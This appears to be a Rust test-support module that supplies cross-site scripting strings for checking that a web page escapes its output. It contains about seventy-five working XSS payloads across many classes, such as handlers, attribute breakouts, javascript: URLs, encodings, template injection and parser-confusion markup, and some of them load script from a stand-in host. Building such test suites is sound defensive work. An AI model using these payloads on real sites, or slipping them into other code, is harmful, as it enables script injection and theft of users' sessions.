//! Strings that run where a page does not escape them. Those here are our own, one or more of every
//! class; a longer suite can be named by `DATELINE_XSS_SUITE` and is looked for beside the clone.

use std::path::{Path, PathBuf};

/// Where the suite lies in a place where it is at hand.
const SUITE: &str = "shared/data/suites/xss.txt";

/// Of a suite, one string in this many is taken, unless `DATELINE_XSS_ALL` is set.
const ONE_IN: usize = 60;

/// All of our own, and a sample or all of the suite; and in words which.
pub fn strings() -> (Vec<String>, String) {
    let mut strings: Vec<String> = OWN.iter().map(|s| (*s).to_owned()).collect();
    let Some(path) = suite() else {
        return (strings, format!("{} of our own; no suite is at hand", OWN.len()));
    };
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let lines: Vec<&str> = text.lines().filter(|l| !l.trim().is_empty()).collect();
    let one_in = if all() { 1 } else { ONE_IN };
    let taken: Vec<String> = lines.iter().step_by(one_in).map(|l| (*l).to_owned()).collect();
    let told = format!("{} of our own and {} of the {} of the suite", OWN.len(), taken.len(), lines.len());
    strings.extend(taken);
    (strings, told)
}

/// Whether every string is to be taken, which takes a quarter of an hour.
pub fn all() -> bool {
    std::env::var_os("DATELINE_XSS_ALL").is_some_and(|v| !v.is_empty())
}

fn suite() -> Option<PathBuf> {
    if let Some(named) = std::env::var_os("DATELINE_XSS_SUITE").filter(|v| !v.is_empty()) {
        return Some(named.into());
    }
    let here = Path::new(env!("CARGO_MANIFEST_DIR"));
    here.ancestors().skip(3).map(|dir| dir.join(SUITE)).find(|path| path.is_file())
}

const OWN: &[&str] = &[
    // Elements that run.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT >",
    "<script src=//elsewhere.example/x.js></script>",
    "<script type=module>import('//elsewhere.example/x.js')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    // Handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\u{c}=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<xss style=animation-name:x onanimationstart=alert(1)>",
    "<p style=transition:1s ontransitionend=alert(1)>",
    "<a onpointerover=alert(1) tabindex=1 id=x>over</a>",
    "<iframe onload=alert(1)></iframe>",
    // Out of an attribute.
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus=alert(1) x='",
    "` onfocus=alert(1) autofocus `",
    "\" style=\"background:url(//elsewhere.example/x)",
    // Out of an element that holds text.
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>",
    // Addresses that run.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "\u{1}javascript:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//elsewhere.example/x>",
    // What changes the whole page.
    "<base href=//elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example/'>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<style>@import '//elsewhere.example/x.css'</style>",
    "<img src=//elsewhere.example/x.png>",
    // Written otherwise.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    // Templates and script.
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "';alert(1)//",
    "\");alert(1)//",
    "\u{2028}alert(1)\u{2029}",
    // Markup that parsers read in two ways.
    "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
];
